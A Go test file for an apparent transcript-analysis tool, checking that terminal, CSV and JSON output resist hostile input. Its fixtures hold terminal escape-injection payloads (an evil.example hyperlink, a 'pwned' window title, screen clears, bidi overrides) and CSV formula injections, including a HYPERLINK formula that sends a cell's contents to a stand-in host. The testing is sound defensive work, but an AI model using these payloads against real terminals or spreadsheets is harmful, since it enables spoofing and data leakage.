package main

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// Output safety beyond hostile_test.go (HTML, secrets): terminal output
// never carries a control character from a transcript, CSV cells never
// start a formula, JSON is valid UTF-8 whatever the input's bytes.

// poisoned writes dir/name, a Claude Code session with poison in every
// text field: prompt, ids, command, outputs, tool name, file path. poison
// is written as it is inside JSON strings, so it may hold JSON escapes
// and raw bytes. The session has a failed benchmark run that a renamed
// flag fixes, numbers, a failed call of another tool and a missing file,
// so that every command has rows to print.
func poisoned(t *testing.T, dir, name, poison string) string {
	t.Helper()
	const p = "@P@"
	lines := []string{
		`{"parentUuid":null,"isSidechain":false,"type":"user","uuid":"u1","sessionId":"s-@P@","cwd":"/srv/@P@","version":"2.0@P@","timestamp":"2026-04-01T10:00:00Z","message":{"role":"user","content":"benchmark @P@ the server"}}`,
		`{"parentUuid":"u1","isSidechain":false,"type":"assistant","uuid":"u2","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:02Z","message":{"id":"m1","model":"model@P@","content":[{"type":"text","text":"Running @P@ it"},{"type":"tool_use","id":"toolu_1@P@","name":"Bash","input":{"command":"python3 bench.py --num-prompts 5 --tag '@P@'"}}]}}`,
		`{"parentUuid":"u2","isSidechain":false,"type":"user","uuid":"u3","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:03Z","message":{"content":[{"tool_use_id":"toolu_1@P@","type":"tool_result","is_error":true,"content":"Exit code 2\nusage: bench.py [-h] [--num-runs N] [--tag T]\nbench.py: error: unrecognized arguments: --num-prompts 5 @P@"}]}}`,
		`{"parentUuid":"u3","isSidechain":false,"type":"assistant","uuid":"u4","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:05Z","message":{"id":"m2","content":[{"type":"tool_use","id":"toolu_2@P@","name":"Bash","input":{"command":"python3 bench.py --num-runs 5 --tag '@P@'"}}]}}`,
		`{"parentUuid":"u4","isSidechain":false,"type":"user","uuid":"u5","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:09Z","message":{"content":[{"tool_use_id":"toolu_2@P@","type":"tool_result","content":"=== concurrency @P@ ===\nAverage: 71.1 tok/s @P@\n@P@ Throughput: 12.5 req/s\nLatency (@P@): 3 ms"}]}}`,
		`{"parentUuid":"u5","isSidechain":false,"type":"assistant","uuid":"u6","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:10Z","message":{"id":"m3","content":[{"type":"tool_use","id":"@P@3","name":"@P@","input":{"path":"@P@/x","mode":"@P@"}}]}}`,
		`{"parentUuid":"u6","isSidechain":false,"type":"user","uuid":"u7","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:11Z","message":{"content":[{"tool_use_id":"@P@3","type":"tool_result","is_error":true,"content":"@P@ refused"}]}}`,
		`{"parentUuid":"u7","isSidechain":false,"type":"assistant","uuid":"u8","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:12Z","message":{"id":"m4","content":[{"type":"tool_use","id":"toolu_4","name":"Bash","input":{"command":"cat '/srv/@P@.txt'"}}]}}`,
		`{"parentUuid":"u8","isSidechain":false,"type":"user","uuid":"u9","sessionId":"s-@P@","timestamp":"2026-04-01T10:00:13Z","message":{"content":[{"tool_use_id":"toolu_4","type":"tool_result","is_error":true,"content":"Exit code 1\ncat: '/srv/@P@.txt': No such file or directory"}]}}`,
	}
	data := strings.ReplaceAll(strings.Join(lines, "\n")+"\n", p, poison)
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

// jsonBody returns s escaped for the inside of a JSON string.
func jsonBody(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}

// terminalPoison holds what could act on a terminal: colours and blinking
// (an SGR retrace never writes), a hyperlink, a window title, a device
// control string, bell, backspace, delete, a bidi override, a line
// separator, a zero-width space, a byte order mark, a tag character, a
// carriage return, NUL; then an 8-bit CSI and a byte that is not UTF-8,
// written raw.
var terminalPoison = jsonBody("\x1b[5;41mBLINK\x1b[0m\x1b]8;;http://evil.example/\x07link\x1b]8;;\x07\x1b]0;pwned\x07"+
	"\x1bP1$r\x1b\\\x07\x08\x7f\u202eevil\u2028\u200b\ufeff\U000e0041\r\x00") + "\x9b2J\xff"

// run1 runs retrace in-process and returns its status and streams. The
// analysis commands get --no-redact, so that no mask hides what the
// transcript holds.
func run1(t *testing.T, env *Env, args ...string) (int, string, string) {
	t.Helper()
	var stdout, stderr bytes.Buffer
	env.Stdout, env.Stderr = &stdout, &stderr
	if env.Stdin == nil {
		env.Stdin = &bytes.Buffer{}
	}
	if env.Getenv == nil {
		env.Getenv = func(string) string { return "" }
	}
	if len(args) > 0 && args[0] != "formats" {
		args = append([]string{args[0], "--no-redact"}, args[1:]...)
	}
	return run(args, env), stdout.String(), stderr.String()
}

// testName names a subtest after its arguments, files by their base name.
func testName(dir string, args []string) string {
	var words []string
	for _, a := range args {
		if strings.HasPrefix(a, dir) {
			a = strconv.Quote(filepath.Base(a))
		}
		words = append(words, a)
	}
	return strings.Join(words, " ")
}

// sgrRE matches the colour sequences retrace itself writes on a terminal.
var sgrRE = regexp.MustCompile(`\x1b\[[0-9;]*m`)

// unsafeRune returns the first character of s a terminal could act on
// other than as text, or that prints nothing, with its offset: a control
// character but the line feed, a line or paragraph separator, a format
// character (bidi controls, zero-width characters, tags), or a byte that
// is not UTF-8.
func unsafeRune(s string) (int, rune, bool) {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && size == 1 ||
			r != '\n' && unicode.IsControl(r) ||
			r == '\u2028' || r == '\u2029' || unicode.Is(unicode.Cf, r) {
			return i, r, true
		}
		i += size
	}
	return 0, 0, false
}

// TestTerminalOutput runs every command that writes for people over a
// transcript full of terminal escapes and control characters, with and
// without colour: the output holds none of them, only retrace's own
// colours, and every command did print rows.
func TestTerminalOutput(t *testing.T) {
	dir := t.TempDir()
	path := poisoned(t, dir, "session.jsonl", terminalPoison)
	other := poisoned(t, dir, "other.jsonl", "plain")
	runs := [][]string{
		{"summary", path, other}, {"errors", path, other}, {"pairs", path, other}, {"pairs", "--unresolved", path},
		{"bench", path, other}, {"bench", "--runs", path}, {"bench", "--failed", path},
		{"lessons", path, other}, {"lessons", "-f", "markdown", path},
		{"show", path}, {"show", path, "1"}, {"report", path, other},
		{"errors", "-c", "agent-tool-error", path},
	}
	for _, args := range runs {
		for _, color := range []bool{false, true} {
			name := testName(dir, args)
			if color {
				name += " colour"
			}
			t.Run(name, func(t *testing.T) {
				env := &Env{Terminal: color}
				status, stdout, stderr := run1(t, env, args...)
				if status != 0 {
					t.Fatalf("status %d: %s", status, stderr)
				}
				if strings.Count(stdout, "\n") < 2 {
					t.Fatalf("too little output to tell:\n%s", stdout)
				}
				if strings.Contains(stdout, "[5;41m") {
					t.Error("the transcript's own colour sequence reached the output")
				}
				for stream, out := range map[string]string{"stdout": stdout, "stderr": stderr} {
					if color {
						out = sgrRE.ReplaceAllString(out, "")
					}
					if i, r, ok := unsafeRune(out); ok {
						t.Errorf("%s holds %U at byte %d: %q", stream, r, i, out[max(0, i-40):min(len(out), i+40)])
					}
				}
			})
		}
	}
}

// TestTerminalFileNames checks that the name of a transcript file, shown
// in the SESSION column and in warnings, cannot act on the terminal either.
func TestTerminalFileNames(t *testing.T) {
	dir := t.TempDir()
	evil := "a\x1b]0;pwned\x07\x1b[2J.jsonl"
	poisoned(t, dir, evil, "plain")
	poisoned(t, dir, "b.jsonl", "plain")
	if err := os.WriteFile(filepath.Join(dir, "bin\x1b[2J.dat"), []byte("\x00\x01\x02"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "bad\x1b[2J.jsonl"), []byte(`{"type":"user","parentUuid":null}`+"\nnot json\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"summary"}, {"errors"}, {"pairs"}, {"bench"}, {"lessons"}, {"report"}} {
		status, stdout, stderr := run1(t, &Env{}, append(args, dir)...)
		if status != 0 {
			t.Fatalf("%s: status %d: %s", args[0], status, stderr)
		}
		for stream, out := range map[string]string{"stdout": stdout, "stderr": stderr} {
			if i, r, ok := unsafeRune(out); ok {
				t.Errorf("%s: %s holds %U at byte %d: %q", args[0], stream, r, i, out[max(0, i-40):min(len(out), i+40)])
			}
		}
	}
	status, stdout, stderr := run1(t, &Env{}, "show", filepath.Join(dir, evil))
	if i, r, ok := unsafeRune(stdout + stderr); status != 0 || ok {
		t.Errorf("show: status %d; %U at byte %d", status, r, i)
	}
}

// formulaStart reports whether a CSV cell would start a formula in a
// spreadsheet.
func formulaStart(cell string) bool {
	return cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0]))
}

// TestCSVFormulas writes CSV from a transcript whose fields start with the
// characters that make a spreadsheet read a cell as a formula, file name
// included: no cell starts with one, the cells that did are quoted, and
// none holds a control character.
func TestCSVFormulas(t *testing.T) {
	dir := t.TempDir()
	t.Chdir(dir)
	poison := jsonBody(`=HYPERLINK("http://evil.example/?"&A1,"x")`)
	for _, lead := range []string{"+", "-", "@", "\t=", "\r=", " =", "\n@"} {
		poison += jsonBody(lead + "SUM(1+1)")
	}
	// The poison starts every field it is in; fields with text before
	// it get it at their start by way of the variants below.
	files := []string{
		poisoned(t, ".", "=1+1.jsonl", poison),
		poisoned(t, ".", "@SUM(A1).jsonl", jsonBody("\n-2+3 ")+poison),
		poisoned(t, ".", "+plain.jsonl", "plain"),
	}
	for _, cmd := range []string{"errors", "pairs", "bench"} {
		t.Run(cmd, func(t *testing.T) {
			status, stdout, stderr := run1(t, &Env{}, append([]string{cmd, "-f", "csv"}, files...)...)
			if status != 0 {
				t.Fatalf("status %d: %s", status, stderr)
			}
			records, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
			if err != nil {
				t.Fatalf("not CSV: %v\n%s", err, stdout)
			}
			if len(records) < 3 {
				t.Fatalf("too few rows to tell:\n%s", stdout)
			}
			quoted := 0
			for _, rec := range records[1:] {
				for i, cell := range rec {
					if formulaStart(cell) {
						t.Errorf("%s cell starts a formula: %q", records[0][i], cell)
					}
					if strings.HasPrefix(cell, "'") {
						quoted++
					}
					if j, r, ok := unsafeRune(cell); ok || strings.Contains(cell, "\n") {
						t.Errorf("%s cell holds %U at %d: %q", records[0][i], r, j, cell)
					}
				}
			}
			if quoted == 0 {
				t.Errorf("no cell was neutralized; the test does not test:\n%s", stdout)
			}
		})
	}
}

// TestCSVNumbers checks that neutralizing formulas leaves numbers as
// numbers.
func TestCSVNumbers(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "neg.jsonl")
	data := strings.Join([]string{
		`{"parentUuid":null,"type":"assistant","sessionId":"s","timestamp":"2026-04-01T10:00:00Z","message":{"id":"m1","content":[{"type":"tool_use","id":"toolu_1","name":"Bash","input":{"command":"python3 serve.py"}}]}}`,
		`{"parentUuid":"u1","type":"user","sessionId":"s","timestamp":"2026-04-01T10:00:01Z","message":{"content":[{"tool_use_id":"toolu_1","type":"tool_result","is_error":true,"content":"Exit code -1\nTraceback (most recent call last):\nKeyboardInterrupt"}]}}`,
	}, "\n") + "\n"
	if err := os.WriteFile(path, []byte(data), 0o644); err != nil {
		t.Fatal(err)
	}
	status, stdout, stderr := run1(t, &Env{}, "errors", "-f", "csv", path)
	if status != 0 {
		t.Fatalf("status %d: %s", status, stderr)
	}
	records, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil || len(records) != 2 {
		t.Fatalf("want a header and one row, got %v:\n%s", err, stdout)
	}
	for i, h := range records[0] {
		if h == "exit_code" && records[1][i] != "-1" {
			t.Errorf("exit_code = %q, want -1", records[1][i])
		}
	}
}

// utf8Poison holds bytes that are not UTF-8 (a stray byte, a cut
// sequence, an encoded surrogate, a code point past U+10FFFF, an overlong
// slash), written raw, then JSON escapes of lone surrogates and NUL.
const utf8Poison = "\xff\xc3(\xed\xa0\x80\xf4\x90\x80\x80\xc0\xaf\xe2\x82" + `\ud800\udfff\u0000`

// TestJSONValidUTF8 runs every command that writes JSON or JSON Lines over
// transcripts holding bytes that are not UTF-8, in JSON and in text, and
// under a file name that is not UTF-8 either (found in a directory): the
// output is valid UTF-8 and valid JSON, each line of it for JSON Lines.
func TestJSONValidUTF8(t *testing.T) {
	dir := t.TempDir()
	names := filepath.Join(dir, "names")
	if err := os.Mkdir(names, 0o755); err != nil {
		t.Fatal(err)
	}
	files := []string{
		poisoned(t, dir, "session.jsonl", utf8Poison),
		poisoned(t, names, "name\xff\xfe.jsonl", utf8Poison),
		names,
	}
	text := filepath.Join(dir, "transcript.txt")
	transcript := "[user] benchmark \xff it\n[assistant] Running \xc3( it.\n[bash] python3 bench.py --num-prompts 5 --tag \xed\xa0\x80\n" +
		"usage: bench.py [-h] [--num-runs N]\nbench.py: error: unrecognized arguments: --num-prompts 5 \xf4\x90\x80\x80\nExit code 2\n" +
		"[assistant] Again.\n[bash] python3 bench.py --num-runs 5\nAverage: 71.1 tok/s \xe2\x82\n"
	if err := os.WriteFile(text, []byte(transcript), 0o644); err != nil {
		t.Fatal(err)
	}
	files = append(files, text)
	var runs [][]string
	for _, cmd := range []string{"summary", "errors", "pairs", "bench", "lessons"} {
		for _, f := range []string{"json", "jsonl"} {
			runs = append(runs, append([]string{cmd, "-f", f}, files[0], files[2], files[3]))
		}
	}
	for _, f := range []string{files[0], files[3]} {
		runs = append(runs, []string{"show", "-f", "json", f}, []string{"show", "-f", "jsonl", f})
	}
	runs = append(runs, []string{"formats", "-f", "json"}, []string{"formats", "-f", "jsonl"})
	for _, args := range runs {
		t.Run(testName(dir, args), func(t *testing.T) {
			status, stdout, stderr := run1(t, &Env{}, args...)
			if status != 0 {
				t.Fatalf("status %d: %s", status, stderr)
			}
			if !utf8.ValidString(stdout) {
				i := len(stdout) - len(strings.ToValidUTF8(stdout, ""))
				t.Errorf("output is not UTF-8 (%d bad bytes):\n%q", i, stdout)
			}
			if strings.TrimSpace(stdout) == "" {
				t.Fatal("no output to tell")
			}
			if args[2] == "json" {
				if !json.Valid([]byte(stdout)) {
					t.Errorf("output is not JSON:\n%s", stdout)
				}
				return
			}
			sc := bufio.NewScanner(strings.NewReader(stdout))
			sc.Buffer(nil, 1<<20)
			for sc.Scan() {
				if !json.Valid(sc.Bytes()) {
					t.Errorf("line is not JSON: %s", sc.Text())
				}
			}
		})
	}
}

// TestNonUTF8FileName names on the command line a transcript whose file
// name is not UTF-8, as file systems allow: it is read like any other (kong
// used to decode arguments through encoding/json, which replaced such
// bytes with U+FFFD and made the file not found).
func TestNonUTF8FileName(t *testing.T) {
	path := poisoned(t, t.TempDir(), "name\xff\xfe.jsonl", "plain")
	for _, args := range [][]string{{"errors", path}, {"show", path}} {
		if status, _, stderr := run1(t, &Env{}, args...); status != 0 {
			t.Errorf("%s: status %d: %s", args[0], status, stderr)
		}
	}
}

// TestTerminalReadBack reads back retrace's own JSON Lines, as bench and
// lessons do, after putting terminal poison in their fields, those retrace
// itself fills from fixed lists (unit, format, parser) included: the
// tables and Markdown hold none of it.
func TestTerminalReadBack(t *testing.T) {
	dir := t.TempDir()
	path := poisoned(t, dir, "session.jsonl", terminalPoison)
	var raw string
	if err := json.Unmarshal([]byte(`"`+terminalPoison+`"`), &raw); err != nil {
		t.Fatal(err)
	}
	raw += "\x9b2J" // the raw bytes after the JSON escapes, as JSON reads them
	// poison sets every string of a record to itself with raw after it,
	// but those that tie records together or say what they are.
	structural := map[string]bool{"call_id": true, "path": true, "time": true, "kind": true, "category": true, "by": true, "role": true}
	var poison func(v any) any
	poison = func(v any) any {
		switch v := v.(type) {
		case string:
			return v + raw
		case []any:
			for i := range v {
				v[i] = poison(v[i])
			}
		case map[string]any:
			for k := range v {
				if !structural[k] {
					v[k] = poison(v[k])
				}
			}
		}
		return v
	}
	for _, cmd := range []string{"bench", "pairs"} {
		status, stdout, stderr := run1(t, &Env{}, cmd, "-f", "jsonl", path)
		if status != 0 || stdout == "" {
			t.Fatalf("%s: status %d: %s", cmd, status, stderr)
		}
		var lines []string
		for _, l := range strings.Split(strings.TrimSpace(stdout), "\n") {
			var rec map[string]any
			if err := json.Unmarshal([]byte(l), &rec); err != nil {
				t.Fatal(err)
			}
			b, _ := json.Marshal(poison(rec))
			lines = append(lines, string(b))
		}
		if err := os.WriteFile(filepath.Join(dir, cmd+".jsonl"), []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, args := range [][]string{
		{"bench", "bench.jsonl"}, {"bench", "--runs", "bench.jsonl"}, {"bench", "-f", "csv", "bench.jsonl"},
		{"lessons", "pairs.jsonl"}, {"lessons", "-f", "markdown", "pairs.jsonl"},
	} {
		args[len(args)-1] = filepath.Join(dir, args[len(args)-1])
		t.Run(testName(dir, args), func(t *testing.T) {
			status, stdout, stderr := run1(t, &Env{}, args...)
			if status != 0 || strings.Count(stdout, "\n") < 2 {
				t.Fatalf("status %d, output:\n%s\nstderr: %s", status, stdout, stderr)
			}
			for stream, out := range map[string]string{"stdout": stdout, "stderr": stderr} {
				if i, r, ok := unsafeRune(out); ok {
					t.Errorf("%s holds %U at byte %d: %q", stream, r, i, out[max(0, i-40):min(len(out), i+40)])
				}
			}
		})
	}
}
